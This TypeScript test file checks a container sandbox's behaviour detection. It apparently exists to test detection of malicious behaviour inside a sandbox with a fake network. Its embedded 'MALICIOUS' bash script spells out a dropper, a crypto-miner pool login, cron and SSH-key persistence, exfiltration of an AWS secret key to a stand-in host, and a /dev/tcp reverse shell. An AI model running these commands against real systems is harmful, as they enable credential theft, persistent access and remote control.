/**
 * The whole sandbox through the CLI: `shipshape sandbox` and `scan --dynamic` run real images
 * (the Debian minbase userland plus harmless scripts) under runc with the fake internet and the
 * monitor, and the behaviour rules judge them. The scripts only imitate threats: every
 * "download", "pool" and "exfiltration" goes to the sandbox's fake internet.
 */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { writeOciLayout } from '../src/fixtures/layouts.js';
import { GCC_SKIP, HELLO_C, SANDBOX_SKIP, gccLayerTar, onDebian } from './sandbox-runtime-images.js';
import { runCli } from './support/cli.js';
import { tempDir } from './support/tmp.js';

const MALICIOUS = `#!/bin/bash
# A dropper: writes a script that was not in the image, makes it executable, runs it.
printf '#!/bin/sh\\necho stage2\\n' > /tmp/.kworker
chmod +x /tmp/.kworker
/tmp/.kworker
# A miner's first words to its pool, on an unusual port, by name.
getent hosts xmr.pool.example-mining.test >/dev/null
echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}' > /dev/tcp/xmr.pool.example-mining.test/14444 || true
# Persistence.
echo '* * * * * root /tmp/.kworker' > /etc/cron.d/kworker
mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyFakeKeyFakeKeyFakeKeyFakeKeyFakeKe x' >> /root/.ssh/authorized_keys
# Credentials: the decoy key the sandbox planted in the environment leaves over the network.
echo "k=$AWS_SECRET_ACCESS_KEY" > /dev/tcp/collector.example-exfil.test/443 || true
# A reverse shell to the fake internet (it closes the connection; the shell then ends).
timeout 3 bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1' || true
exit 0
`;

// Writes a small harmless C program, compiles it with the real gcc (the host's toolchain in a
// layer) and runs what it built: what a sample that builds its payload on the spot does.
const COMPILE = `#!/bin/sh
set -e
cat > /tmp/hello.c <<'EOF'
${HELLO_C}EOF
gcc -O1 -o /tmp/hello /tmp/hello.c
/tmp/hello
`;

const BENIGN = `#!/bin/bash
# A well-behaved service: reads its config, writes its log, answers nothing, exits.
cat /etc/app/app.conf > /dev/null
mkdir -p /var/log/app
for i in 1 2 3; do echo "request $i served" >> /var/log/app/access.log; done
exit 0
`;

async function images(dir: string) {
  const layout = join(dir, 'oci');
  await writeOciLayout(layout, [
    {
      ref: 'malicious',
      image: await onDebian(
        [
          [
            { path: 'opt/', type: 'dir' },
            { path: 'opt/run.sh', mode: 0o755, content: MALICIOUS },
          ],
        ],
        { Entrypoint: ['/opt/run.sh'] },
      ),
    },
    {
      ref: 'benign',
      image: await onDebian(
        [
          [
            { path: 'opt/', type: 'dir' },
            { path: 'opt/serve.sh', mode: 0o755, content: BENIGN },
            { path: 'etc/app/', type: 'dir' },
            { path: 'etc/app/app.conf', content: 'port=8080\n' },
          ],
        ],
        { Entrypoint: ['/opt/serve.sh'] },
      ),
    },
  ]);
  return { malicious: `oci:${layout}:malicious`, benign: `oci:${layout}:benign` };
}

interface Behavior {
  ran: boolean;
  exitCode: number | null;
  findings: { category: string; rule: string; severity: string; evidence: string }[];
  network: {
    kind: string;
    host: string | null;
    ip: string | null;
    port: number | null;
    firstBytes: string;
  }[];
  processes: { argv: string[] }[];
  dropped: { path: string }[];
  warnings: string[];
}

function leftovers(): string[] {
  return readdirSync(tmpdir()).filter((n) => n.startsWith('shipshape-sandbox-'));
}

test(
  'sandbox CLI: a malicious image is caught doing each thing; a benign one is not flagged',
  { skip: SANDBOX_SKIP },
  async () => {
    const dir = tempDir();
    const targets = await images(dir);
    const env = { SHIPSHAPE_DB: join(dir, 'db.sqlite'), SHIPSHAPE_SANDBOX_RUNS: join(dir, 'runs') };
    const before = new Set(leftovers());

    const bad = await runCli(
      ['sandbox', '--format', 'json', '--timeout', '20', targets.malicious],
      env,
      300_000,
    );
    assert.equal(bad.code, 1, `behaviour findings fail the default gate: ${bad.stderr}`);
    const b = (JSON.parse(bad.stdout) as { behavior: Behavior }).behavior;
    assert.equal(b.ran, true, 'the container ran');
    const categories = new Set(b.findings.map((f) => f.category));
    for (const c of ['dropper', 'miner', 'persistence', 'credential-access', 'reverse-shell'])
      assert.ok(
        categories.has(c),
        `${c} found: ${JSON.stringify(b.findings.map((f) => [f.category, f.rule]))}`,
      );
    assert.ok(
      b.network.some((n) => n.port === 14444 && n.firstBytes.includes('"method":"login"')),
      `the stratum login reached the fake pool: ${JSON.stringify(b.network)}`,
    );
    assert.ok(
      b.network.some((n) => n.kind === 'dns' && n.host === 'xmr.pool.example-mining.test'),
      'the pool name was looked up through the fake DNS',
    );
    assert.ok(
      b.dropped.some((d) => d.path === '/tmp/.kworker'),
      `the dropped file was kept: ${JSON.stringify(b.dropped)}`,
    );
    assert.ok(
      b.processes.some((p) => p.argv[0] === '/tmp/.kworker'),
      'the dropped file ran',
    );

    const good = await runCli(
      ['sandbox', '--format', 'json', '--timeout', '20', targets.benign],
      env,
      300_000,
    );
    assert.equal(good.code, 0, `a benign service passes: ${good.stdout.slice(0, 2000)} ${good.stderr}`);
    const g = (JSON.parse(good.stdout) as { behavior: Behavior }).behavior;
    assert.equal(g.exitCode, 0, 'it exited normally');
    assert.deepEqual(g.findings, [], 'and did nothing worth a finding');

    const scan = await runCli(
      ['scan', '--dynamic', '--timeout', '20', '--format', 'json', targets.malicious],
      env,
      300_000,
    );
    assert.equal(scan.code, 1, scan.stderr);
    const report = JSON.parse(scan.stdout) as { behavior: Behavior | null; checks: string[] };
    assert.ok(report.behavior && report.behavior.findings.length > 0, 'scan --dynamic fills behavior');
    assert.ok(report.checks.includes('behavior'), `checks: ${report.checks.join(',')}`);

    const after = leftovers().filter((n) => !before.has(n));
    assert.deepEqual(after, [], 'no work dir left behind');
    const mounts = readFileSync('/proc/self/mountinfo', 'utf8');
    assert.ok(!mounts.includes('shipshape-sandbox-'), 'no mount left behind');
    const runs = join(dir, 'runs');
    assert.ok(!existsSync(runs) || readdirSync(runs).length === 0, 'no live-run record left behind');
  },
);

test(
  'sandbox CLI: a C program compiled with the real gcc and then run is compile-exec, and nothing worse',
  { skip: GCC_SKIP },
  async () => {
    const dir = tempDir();
    const layout = join(dir, 'oci');
    const started = Date.now();
    await writeOciLayout(layout, [
      {
        ref: 'compile',
        image: await onDebian(
          [
            await gccLayerTar(),
            [
              { path: 'opt/', type: 'dir' },
              { path: 'opt/build.sh', mode: 0o755, content: COMPILE },
            ],
          ],
          { Entrypoint: ['/opt/build.sh'] },
        ),
      },
    ]);
    const built = Date.now();
    const env = { SHIPSHAPE_DB: join(dir, 'db.sqlite'), SHIPSHAPE_SANDBOX_RUNS: join(dir, 'runs') };
    const r = await runCli(
      ['sandbox', '--format', 'json', '--timeout', '60', `oci:${layout}:compile`],
      env,
      300_000,
    );
    console.log(`# gcc image built in ${built - started} ms, sandboxed in ${Date.now() - built} ms`);
    assert.equal(r.code, 1, `compile-exec fails the default gate: ${r.stderr} ${r.stdout.slice(0, 6000)}`);
    const b = (JSON.parse(r.stdout) as { behavior: Behavior }).behavior;
    assert.equal(b.exitCode, 0, `gcc compiled and the program ran: ${JSON.stringify(b.warnings)}`);
    const ran = new Set(b.processes.map((p) => p.argv[0]?.split('/').pop()));
    for (const tool of ['gcc', 'cc1', 'as', 'collect2', 'ld'])
      assert.ok(ran.has(tool), `the real ${tool} ran: ${[...ran].join(' ')}`);
    const compile = b.findings.filter((f) => f.category === 'compile-exec');
    assert.ok(
      compile.some(
        (f) => f.severity === 'high' && /gcc/.test(f.evidence) && f.evidence.includes('/tmp/hello'),
      ),
      `compile-exec names gcc and its output: ${JSON.stringify(b.findings)}`,
    );
    const others = b.findings.filter(
      (f) => f.category !== 'compile-exec' && /high|critical/.test(f.severity),
    );
    assert.deepEqual(others, [], 'the toolchain at work is not mistaken for a dropper or worse');
  },
);
